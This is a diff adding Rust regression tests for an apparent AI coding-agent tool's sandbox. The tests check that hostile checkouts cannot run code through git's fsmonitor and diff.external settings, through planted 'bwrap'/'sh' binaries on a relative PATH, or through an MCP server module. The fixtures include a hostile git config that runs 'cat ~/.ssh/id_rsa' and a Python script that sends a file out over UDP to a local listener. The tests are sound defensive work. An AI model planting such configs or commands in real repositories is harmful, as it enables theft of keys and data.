@@ -305,9 +305,21 @@ fn a_hostile_checkout_cannot_run_code_through_read_only_git() {
         git(&["add", "data.txt"]);
         git(&["commit", "-qm", "one"]);
         std::fs::write(ws.join("data.txt"), "alpha\nchanged\n").unwrap();
+        // A listener the checkout's program would send what it read to, by UDP (over which
+        // Landlock has no rule).
+        let heard = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
+        heard.set_nonblocking(true).unwrap();
+        std::fs::write(
+            ws.join("leak.py"),
+            format!(
+                "import socket\ntry:\n    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(open('data.txt', 'rb').read(), ('127.0.0.1', {}))\nexcept OSError:\n    pass\n",
+                heard.local_addr().unwrap().port()
+            ),
+        )
+        .unwrap();
         // The checkout came with a config that runs programs from `git status` and `git diff`.
         let hostile = format!(
-            "\n[core]\n\tfsmonitor = touch {ws}/PWNED-0; touch {out}/PWNED-0; echo\n[diff]\n\texternal = cat {out}/secret.txt; cat ~/.ssh/id_rsa; true\n",
+            "\n[core]\n\tfsmonitor = /usr/bin/python3 {ws}/leak.py; touch {ws}/PWNED-0; touch {out}/PWNED-0; echo\n[diff]\n\texternal = cat {out}/secret.txt; cat ~/.ssh/id_rsa; true\n",
             ws = ws.display(),
             out = bed.out().display()
         );
@@ -334,8 +346,102 @@ fn a_hostile_checkout_cannot_run_code_through_read_only_git() {
             }
             // They did run, unasked: read-only commands stay usable.
             assert!(ran_unasked(&events, 0), "{what}: git status asked");
+            let mut buf = [0u8; 256];
+            assert!(
+                heard.recv_from(&mut buf).is_err(),
+                "{what}: the checkout's program sent a datagram out"
+            );
         }
     }
+}
+
+#[test]
+fn a_checkout_named_by_a_relative_path_folder_supplies_neither_the_sandbox_nor_the_shell() {
+    // toolslot run in the checkout with `node_modules/.bin` and an empty entry (the current
+    // folder) on its PATH: the checkout's `bwrap` and `sh` would run in place of the host's.
+    for sandbox in ["auto", "landlock"] {
+        let bed = Bed::new();
+        let ws = bed.ws();
+        let planted = format!(
+            "#!/bin/sh\ntouch {}/PWNED-0\nexec /usr/bin/env -i PATH=/usr/bin:/bin \"$(basename \"$0\")\" \"$@\"\n",
+            bed.out().display()
+        );
+        for dir in [ws.join("node_modules/.bin"), ws.clone()] {
+            std::fs::create_dir_all(&dir).unwrap();
+            for name in ["bwrap", "sh"] {
+                let file = dir.join(name);
+                std::fs::write(&file, &planted).unwrap();
+                use std::os::unix::fs::PermissionsExt;
+                std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o755)).unwrap();
+            }
+        }
+        let config = bed.config(&format!("[approval]\nmode = \"full-auto\"\n[shell]\nsandbox = \"{sandbox}\"\n"));
+        let mut cmd = toolslot();
+        cmd.current_dir(&ws)
+            .env("HOME", bed.home())
+            .env("PATH", format!("node_modules/.bin::{}:", std::env::var("PATH").unwrap_or_default()));
+        let calls = openai_stream(&[
+            ("exec_shell", json!({"command": "echo hello"})),
+            ("exec_shell", json!({"command": "touch made"})),
+        ]);
+        let out = replay_with(cmd, bed.dir.path(), &ws, &config, "none", &[calls]);
+        assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
+        let events = json_lines(&out.stdout);
+        let what = format!("under {sandbox}");
+        assert!(!bed.out().join("PWNED-0").exists(), "{what}: the checkout's program ran");
+        let r = results(&events);
+        assert!(r[0]["content"].as_str().unwrap().contains("hello"), "{what}: {:?}", r[0]);
+        assert!(
+            ws.join("made").exists(),
+            "{what}: the host's shell did not run the approved write: {:?}",
+            r[1]
+        );
+    }
+}
+
+#[test]
+fn an_mcp_server_started_from_a_checkout_runs_none_of_its_code() {
+    // `python3 -m server` reads its current folder first: started in the checkout toolslot
+    // runs in, the checkout's `server.py` would run outside any sandbox. A server starts in
+    // the home folder, or the `cwd` its table names.
+    let bed = Bed::new();
+    let ws = bed.ws();
+    let module = |dir: &Path, marker: &Path| {
+        std::fs::create_dir_all(dir).unwrap();
+        std::fs::write(
+            dir.join("planted_server.py"),
+            format!("open({:?}, 'w').write('ran')\n", marker.display().to_string()),
+        )
+        .unwrap();
+    };
+    let planted = bed.out().join("PWNED-0");
+    module(&ws, &planted);
+    let chosen_dir = bed.dir.path().join("servers");
+    let chosen = bed.dir.path().join("chosen-ran");
+    module(&chosen_dir, &chosen);
+    let server = |name: &str, cwd: &str| {
+        format!(
+            "[[mcp.servers]]\nname = \"{name}\"\ncommand = [\"python3\", \"-m\", \"planted_server\"]\ndefer = false\nstartup_timeout_ms = 20000\n{cwd}"
+        )
+    };
+    let config = bed.config(&format!(
+        "[mcp]\ntool_cache_dir = \"\"\n{}{}",
+        server("planted", ""),
+        server("chosen", &format!("cwd = \"{}\"\n", chosen_dir.display()))
+    ));
+    let mut cmd = toolslot();
+    cmd.current_dir(&ws).env("HOME", bed.home());
+    let out = replay_with(
+        cmd,
+        bed.dir.path(),
+        &ws,
+        &config,
+        "none",
+        &[openai_stream(&[("exec_shell", json!({"command": "echo hi"}))])],
+    );
+    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
+    assert!(!planted.exists(), "the checkout's module ran as an MCP server");
+    assert!(chosen.exists(), "the server did not start in the folder its `cwd` names");
 }
 
 #[test]
